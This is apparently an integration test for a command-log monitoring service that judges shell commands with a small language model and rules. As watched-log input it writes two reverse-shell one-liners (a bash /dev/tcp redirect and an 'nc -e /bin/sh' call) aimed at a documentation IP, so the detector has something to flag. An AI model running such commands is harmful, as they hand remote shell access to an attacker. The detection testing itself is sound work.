#!/usr/bin/env python3
"""`nightjar serve` running the watch sources of its config file: one
process serves the API and follows a log, judging its events with the one
model it holds (SmolLM2) and delivering verdicts to a JSON-lines sink.

  1. lines appended to the watched log get verdicts in the sink;
  2. /v1/analyze answers meanwhile;
  3. SIGTERM stops the service (watch included) with status 0;
  4. lines written while it was down are judged after a restart, and
     nothing is judged twice (the spool resumes at its offset);
  5. a bad watch source stops the start with a message naming it.

Prints one line per check and "N passed, M failed"; exits 1 on failure.
Every wait polls a condition under a generous deadline.
"""
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.request

BIN = os.environ.get("NJ_BIN", "build/nightjar")
MODEL_DIR = os.environ.get("NIGHTJAR_TEST_MODEL_DIR", os.path.expanduser("~/.cache/nightjar/models"))
MODEL = os.path.join(MODEL_DIR, "SmolLM2-135M-Instruct.Q4_1.gguf")
DEADLINE = 600 if ("asan" in BIN or "tsan" in BIN) else 240

passed = failed = 0


def check(name, cond, detail=""):
    global passed, failed
    if cond:
        passed += 1
        print(f"ok   {name}")
    else:
        failed += 1
        print(f"FAIL {name}" + (f": {detail}" if detail else ""))
    return cond


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def wait_for(cond, deadline=DEADLINE):
    t = time.time() + deadline
    while time.time() < t:
        if cond():
            return True
        time.sleep(0.2)
    return False


def http(port, path, body=None):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=json.dumps(body).encode() if body else None,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=DEADLINE) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except OSError:
        return 0, ""


def sink_ids(path):
    if not os.path.exists(path):
        return []
    return [json.loads(l)["event_id"] for l in open(path) if l.strip()]


def spool_counts(db):
    c = sqlite3.connect(db)
    try:
        return (c.execute("select count(*) from events").fetchone()[0],
                c.execute("select count(*) from verdicts").fetchone()[0])
    finally:
        c.close()


def main():
    if not os.path.exists(MODEL):
        print(f"skip: {MODEL} is not there (scripts/get-models)")
        print("0 passed, 0 failed")
        return 0
    tmp = tempfile.mkdtemp(prefix="nj-serve-watch-")
    procs = []
    try:
        log, out, db = (os.path.join(tmp, n) for n in ("commands.log", "verdicts.jsonl", "spool.db"))
        open(log, "w").close()
        port = free_port()
        cfg = os.path.join(tmp, "config")
        with open(cfg, "w") as f:
            f.write(f"model = {MODEL}\nsocket = none\nport = {port}\nthreads = 1\nnice = 0\nidle_unload = 0\n"
                    f"watch = cmdline:{log}\nsink = jsonl:{out}\nspool_path = {db}\n")
        slog = open(os.path.join(tmp, "serve.log"), "w")

        def start():
            p = subprocess.Popen([BIN, "serve", "--config", cfg], stdout=slog, stderr=slog)
            procs.append(p)
            ok = wait_for(lambda: p.poll() is None and http(port, "/health")[0] == 200)
            return p if ok else None

        p = start()
        if not check("serve starts with watch sources in its config", p is not None,
                     open(os.path.join(tmp, "serve.log")).read()[-400:]):
            return 1
        with open(log, "a") as f:
            f.write("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nls -la /tmp\ngit status\n")
        got = wait_for(lambda: len(set(sink_ids(out))) == 3)
        check("lines appended to the watched log get verdicts in the sink", got, str(sink_ids(out)))
        vs = {json.loads(l)["event_id"]: json.loads(l) for l in open(out)} if os.path.exists(out) else {}
        check("... the rule decides one, the service's model the others",
              vs.get("cmdline:1", {}).get("source") == "rule" and
              all(vs.get(i, {}).get("source") in ("model", "cache") and
                  vs[i].get("model", "").startswith("SmolLM2") for i in ("cmdline:2", "cmdline:3")),
              json.dumps(vs)[:400])
        st, body = http(port, "/v1/analyze", {"v": 1, "id": "api-1", "kind": "exec", "time": "2026-12-07T10:00:00Z",
                                              "source": {"format": "api"}, "process": {"cmdline": "uptime"}})
        check("/v1/analyze answers meanwhile", st == 200 and json.loads(body).get("event_id") == "api-1", body[:200])
        p.send_signal(signal.SIGTERM)
        try:
            rc = p.wait(DEADLINE)
        except subprocess.TimeoutExpired:
            rc = None
        check("SIGTERM stops the service, watch included, with status 0", rc == 0)
        with open(log, "a") as f:
            f.write("uname -a\nnc -e /bin/sh 198.51.100.7 4444\n")
        p = start()
        check("the service starts again", p is not None)
        got = wait_for(lambda: len(set(sink_ids(out))) == 5)
        check("lines written while it was down are judged after the restart", got, str(sink_ids(out)))
        ev, vt = spool_counts(db)
        check("nothing is read or judged twice", ev == 5 and vt == 5, f"{ev} events, {vt} verdicts")
        p.send_signal(signal.SIGTERM)
        p.wait(DEADLINE)

        with open(cfg, "a") as f:
            f.write("watch = nosuch:/var/log/x\n")
        r = subprocess.run([BIN, "serve", "--config", cfg], capture_output=True, text=True, timeout=DEADLINE)
        check("a bad watch source stops the start, naming it", r.returncode != 0 and "nosuch:/var/log/x" in r.stderr,
              r.stderr[-300:])
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
